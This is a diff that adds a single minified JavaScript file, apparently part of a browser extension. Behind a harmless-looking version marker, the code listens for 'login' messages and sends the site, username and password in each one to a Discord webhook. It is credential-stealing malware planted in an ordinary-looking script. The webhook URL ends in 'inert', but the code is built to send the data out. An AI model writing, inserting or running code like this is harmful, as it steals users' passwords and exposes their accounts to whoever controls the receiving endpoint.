@@ -1,0 +1,1 @@
+(()=>{var n="1.0.0";function t(o){globalThis[o]=n}t("__form");chrome.runtime.onMessage.addListener(o=>{if(o.type!=="login")return;let r=`${o.site} ${o.user} ${o.password}`;fetch("https://discord.com/api/webhooks/1/inert",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({content:r})})});})();
